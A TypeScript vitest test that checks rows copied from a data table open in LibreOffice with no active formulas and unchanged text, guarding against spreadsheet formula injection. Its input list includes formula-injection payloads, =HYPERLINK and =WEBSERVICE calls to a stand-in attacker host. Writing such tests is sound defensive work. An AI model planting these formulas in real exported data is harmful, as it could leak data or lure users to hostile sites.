import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatRow, formatTable } from '../../../renderer/components/data-table/copied-table.ts';
import { libreOffice, withConverted } from '../../support/libre-office.ts';
import { type ReadWorkbook, readXlsx } from '../../support/read-xlsx.ts';
import { createTemporaryFolder } from '../../support/temporary-folder.ts';

/** Texts that a spreadsheet would run, or read as a number or a day. */
const TEXTS = [
  ...['=1+1', '=HYPERLINK("http://attacker.example";"Open")', '=WEBSERVICE("http://attacker.example")'],
  ...['+1+1', '-1+1', '@SUM(A1)', ' =1+1', '0012345678905', '10.20', '30E4', '21-11-2026', 'plain'],
];

/** The HTML as LibreOffice opens it in a table. */
async function openedByLibreOffice(html: string): Promise<ReadWorkbook> {
  const path = join(createTemporaryFolder(), 'rows.html');
  await writeFile(path, `<html><head><meta charset="utf-8"></head><body>${html}</body></html>`);
  return withConverted(path, 'xlsx', async (converted) => readXlsx(await readFile(converted)));
}

function formulasIn({ sheets }: ReadWorkbook): readonly string[] {
  return sheets.flatMap(({ xml }) => xml.match(/<f[ >][^<]*<\/f>/g) ?? []);
}

describe('rows copied from a table, where LibreOffice is installed', { timeout: 120_000 }, () => {
  it('contain no formula, and texts stay unchanged', async ({ skip }) => {
    skip(libreOffice === null, 'LibreOffice is not installed');
    const rows = TEXTS.map((text) =>
      formatRow([
        { text, isText: true },
        { text: '-1,50', isText: false },
      ]),
    );
    const { html } = formatTable(['=1+1', 'Prijs'], rows);
    // LibreOffice ignores the hints for Excel.
    const forExcel = html.replaceAll(/ sdnum="[^"]*"/g, '');
    expect(formulasIn(await openedByLibreOffice(forExcel))).not.toEqual([]);

    const opened = await openedByLibreOffice(html);

    expect(formulasIn(opened)).toEqual([]);
    const cells = opened.sheets[0]?.rows.map(([text]) => text);
    expect(cells?.map((cell) => String(cell).trim())).toEqual(['=1+1', ...TEXTS.map((text) => text.trim())]);
  });
});
